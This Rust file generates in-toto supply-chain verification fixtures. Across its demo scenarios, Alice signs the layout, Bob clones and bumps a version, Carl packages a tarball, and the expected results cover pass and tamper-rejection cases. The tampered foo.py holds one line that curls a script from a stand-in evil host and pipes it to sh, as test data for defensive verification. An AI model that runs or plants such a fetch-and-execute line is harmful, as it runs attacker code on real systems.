//! `intoto-demo/`: the classic in-toto demo supply chain with Alice (layout owner),
//! Bob (clone, update-version) and Carl (package), in the in-toto corpus format.

use serde_json::{Value, json};
use trailscope::crypto::SigningKey;

use super::intoto::{self, foo_py, inspection, link, link_name, metablock, step};
use super::util::{self, Files, LAYOUT_EXPIRES, NOW, TarEntry, doc, tar_gz};

const GIT_URL: &str = "https://git.example.org/demo-project.git";
const TARBALL: &str = "demo-project.tar.gz";
const PACKAGE_CMD: [&str; 6] = ["tar", "--exclude", ".git", "-zcvf", "demo-project.tar.gz", "demo-project"];

struct Actors {
    alice: SigningKey,
    bob: SigningKey,
    carl: SigningKey,
}

/// The root layout; with `named`, each functionary key in `keys` carries a
/// `"name"` member (a label python in-toto keeps and ignores).
fn layout(a: &Actors, named: bool) -> Vec<u8> {
    let steps = vec![
        step(
            "clone",
            &["git", "clone", GIT_URL],
            &[],
            &["CREATE demo-project/foo.py", "DISALLOW *"],
            &[&a.bob],
        ),
        step(
            "update-version",
            &[],
            &["MATCH demo-project/* WITH PRODUCTS FROM clone", "DISALLOW *"],
            &["MODIFY demo-project/foo.py", "DISALLOW *"],
            &[&a.bob],
        ),
        step(
            "package",
            &PACKAGE_CMD,
            &["MATCH demo-project/* WITH PRODUCTS FROM update-version", "DISALLOW *"],
            &["CREATE demo-project.tar.gz", "DISALLOW *"],
            &[&a.carl],
        ),
    ];
    let untar = inspection(
        "untar",
        &["tar", "xzf", TARBALL],
        &["MATCH demo-project.tar.gz WITH PRODUCTS FROM package", "DISALLOW *"],
        &[
            "MATCH demo-project/foo.py WITH PRODUCTS FROM update-version",
            "ALLOW demo-project.tar.gz",
            "DISALLOW *",
        ],
    );
    let mut signed = intoto::layout(
        LAYOUT_EXPIRES,
        "The in-toto demo: Bob clones demo-project and bumps its version, Carl packages it; the untar inspection checks the package against Bob's foo.py.",
        &[&a.bob, &a.carl],
        steps,
        vec![untar],
    );
    if named {
        for (key, name) in [(&a.bob, "bob"), (&a.carl, "carl")] {
            signed["keys"][key.keyid()]["name"] = json!(name);
        }
    }
    metablock(&signed, &[&a.alice])
}

fn tarball(source: &[u8]) -> Vec<u8> {
    tar_gz(&[
        TarEntry { path: "demo-project/", data: None },
        TarEntry { path: "demo-project/foo.py", data: Some(source) },
    ])
}

/// The files of one scenario: links for the three steps and the tarball in workdir.
struct Chain {
    links: Vec<(String, Vec<u8>)>,
    workdir_tarball: Vec<u8>,
}

/// `packaged_foo` is what Carl packaged; `served` (if any) replaces the tarball in workdir.
fn chain(a: &Actors, packaged_foo: &[u8], served: Option<Vec<u8>>) -> Chain {
    let cloned = foo_py("1.0", "");
    let updated = foo_py("1.1", "");
    let tgz = tarball(packaged_foo);
    let clone = link(
        "clone",
        &["git", "clone", GIT_URL],
        json!({}),
        intoto::artifacts(&[("demo-project/foo.py", &cloned)]),
        "",
    );
    let update = link(
        "update-version",
        &[],
        intoto::artifacts(&[("demo-project/foo.py", &cloned)]),
        intoto::artifacts(&[("demo-project/foo.py", &updated)]),
        "",
    );
    let package = link(
        "package",
        &PACKAGE_CMD,
        intoto::artifacts(&[("demo-project/foo.py", packaged_foo)]),
        intoto::artifacts(&[(TARBALL, &tgz)]),
        "demo-project/\ndemo-project/foo.py\n",
    );
    Chain {
        links: vec![
            (link_name("clone", &a.bob), metablock(&clone, &[&a.bob])),
            (link_name("update-version", &a.bob), metablock(&update, &[&a.bob])),
            (link_name("package", &a.carl), metablock(&package, &[&a.carl])),
        ],
        workdir_tarball: served.unwrap_or(tgz),
    }
}

fn expect_pass() -> Value {
    json!({
        "verdict": "pass", "category": "pass", "step": null, "rule": null, "artifact": null, "scope": [],
        "rule_section": null, "rule_list": null, "artifacts": null, "warnings": [],
        "reference_error": null, "reference_cause": null,
    })
}

fn expect_disallow(step: &str, section: &str, artifact: &str, error: String) -> Value {
    json!({
        "verdict": "fail", "category": "rule-disallow", "step": step, "rule": "DISALLOW *", "artifact": artifact,
        "scope": [], "rule_section": section, "rule_list": ["DISALLOW", "*"], "artifacts": [artifact],
        "warnings": [], "reference_error": error, "reference_cause": null,
    })
}

#[allow(clippy::too_many_arguments)]
fn scenario(
    out: &mut Files,
    a: &Actors,
    named: bool,
    name: &str,
    description: &str,
    tags: &[&str],
    c: &Chain,
    expect: Value,
) {
    let base = format!("intoto-demo/{name}");
    out.put(format!("{base}/root.layout"), layout(a, named));
    let mut key_json = util::pretty(&a.alice.public_key_dict_with_keyid(), 1);
    key_json.push(b'\n');
    out.put(format!("{base}/keys/alice.pub.json"), key_json);
    out.put(format!("{base}/keys/alice.pub.pem"), a.alice.public_key_pem());
    for (file, bytes) in &c.links {
        out.put(format!("{base}/links/{file}"), bytes.clone());
    }
    out.put(format!("{base}/workdir/{TARBALL}"), c.workdir_tarball.clone());
    let exit = if expect["verdict"] == "pass" { 0 } else { 1 };
    out.put(
        format!("{base}/scenario.json"),
        doc(&json!({
            "name": name,
            "description": description,
            "kind": "in-toto",
            "set": "intoto-demo",
            "tags": tags,
            "inputs": {
                "layout": "root.layout",
                "layout_keys": ["keys/alice.pub.json"],
                "layout_keys_pem": ["keys/alice.pub.pem"],
                "link_dir": "links",
                "workdir": "workdir",
                "parameters": null,
            },
            "keys": [{
                "name": "alice", "keyid": a.alice.keyid(), "keytype": a.alice.keytype(), "scheme": a.alice.scheme(),
                "json": "keys/alice.pub.json", "pem": "keys/alice.pub.pem",
            }],
            "formats": {"layout": "metablock", "links": ["metablock"]},
            "now": NOW,
            "expect": expect,
            "reference": {
                "implementation": "in-toto 3.1.0 (python), securesystemslib 1.6.0",
                "method": "in_toto.verifylib.in_toto_verify(Metadata.load(layout), {keyid: json key}, link_dir_path, substitution_parameters, persist_inspection_links=False) in a scratch copy, cwd=workdir, clock pinned to 'now'",
                "cli": "cd workdir && in-toto-verify --layout ../root.layout --verification-keys ../keys/alice.pub.pem --link-dir ../links",
                "cli_exit_code": exit,
            },
            "generator": {"tool": "examples/make-fixtures", "set": "intoto-demo"},
        })),
    );
}

/// Generates `intoto-demo/` (three scenarios, README.md, index.json).
pub fn generate(out: &mut Files) {
    let a = Actors { alice: util::ed25519("alice"), bob: util::p256("bob"), carl: util::ed25519("carl") };
    let updated = foo_py("1.1", "");
    let tampered = foo_py("1.1", "\n\nimport os; os.system(\"curl -s https://evil.example/x | sh\")\n");

    let ok = chain(&a, &updated, None);
    scenario(
        out,
        &a,
        false,
        "demo-supply-chain",
        "The in-toto demo: Bob (ECDSA P-256) clones demo-project and bumps VERSION in foo.py to 1.1 (update-version, MODIFY), Carl (ed25519) packages demo-project.tar.gz; the layout, signed by its owner Alice (ed25519), ends with an inspection 'untar' that extracts the tarball and MATCHes foo.py against Bob's update-version product. Everything is consistent: pass.",
        &["demo", "inspection", "pass"],
        &ok,
        expect_pass(),
    );

    let t = chain(&a, &tampered, None);
    let error = format!(
        "RuleVerificationError: 'DISALLOW *' matched the following artifacts: ['demo-project/foo.py']\nFull trace for 'expected_materials' of item 'package':\nAvailable materials (used for queue):\n['demo-project/foo.py']\nAvailable products:\n['{TARBALL}']\nQueue after 'MATCH demo-project/* WITH PRODUCTS FROM update-version':\n['demo-project/foo.py']\n"
    );
    scenario(
        out,
        &a,
        false,
        "tampered-between-steps",
        "Someone alters demo-project/foo.py after Bob's update-version and before Carl packages it. Carl's link honestly records the altered file as a material. Its sha256 differs from Bob's update-version product, so the package step's material rule 'MATCH demo-project/* WITH PRODUCTS FROM update-version' does not consume it and 'DISALLOW *' rejects it: rule-disallow (package, expected_materials, demo-project/foo.py).",
        &["demo", "attack", "rules", "match"],
        &t,
        expect_disallow("package", "expected_materials", "demo-project/foo.py", error),
    );

    let swapped = chain(&a, &updated, Some(tarball(&tampered)));
    let error = format!(
        "RuleVerificationError: 'DISALLOW *' matched the following artifacts: ['{TARBALL}']\nFull trace for 'expected_materials' of item 'untar':\nAvailable materials (used for queue):\n['{TARBALL}']\nAvailable products:\n['{TARBALL}', 'demo-project/foo.py']\nQueue after 'MATCH {TARBALL} WITH PRODUCTS FROM package':\n['{TARBALL}']\n"
    );
    scenario(
        out,
        &a,
        false,
        "package-swapped",
        "An adversary without any of the keys replaces demo-project.tar.gz after Carl packaged it (all links are genuine). Every step verifies; the inspection 'untar' then sees a tarball whose sha256 differs from the product Carl's package link recorded, so 'MATCH demo-project.tar.gz WITH PRODUCTS FROM package' does not consume it and the inspection's 'DISALLOW *' rejects it: rule-disallow (untar, expected_materials, demo-project.tar.gz).",
        &["demo", "attack", "inspection"],
        &swapped,
        expect_disallow("untar", "expected_materials", TARBALL, error),
    );

    scenario(
        out,
        &a,
        true,
        "named-functionaries",
        "The demo supply chain with its functionaries named: in the layout's keys, Bob's key carries \"name\": \"bob\" and Carl's \"name\": \"carl\" (a member python in-toto keeps, signs and ignores). The links are demo-supply-chain's; everything verifies: pass. trailscope shows each name beside the key id (bob (1ddcdd28)) in the checks performed, the Trust and Step views, and search finds a step by its functionary's name.",
        &["demo", "inspection", "pass", "names"],
        &ok,
        expect_pass(),
    );

    out.put("intoto-demo/README.md", include_str!("intoto_demo_README.md").as_bytes().to_vec());
    out.put(
        "intoto-demo/index.json",
        doc(&json!({
            "kind": "in-toto",
            "set": "intoto-demo",
            "now": NOW,
            "generator": "examples/make-fixtures",
            "count": 4,
            "scenarios": [
                {"name": "demo-supply-chain", "verdict": "pass", "category": "pass", "step": null, "scope": []},
                {"name": "named-functionaries", "verdict": "pass", "category": "pass", "step": null, "scope": []},
                {"name": "package-swapped", "verdict": "fail", "category": "rule-disallow", "step": "untar", "scope": []},
                {"name": "tampered-between-steps", "verdict": "fail", "category": "rule-disallow", "step": "package", "scope": []},
            ],
        })),
    );
}
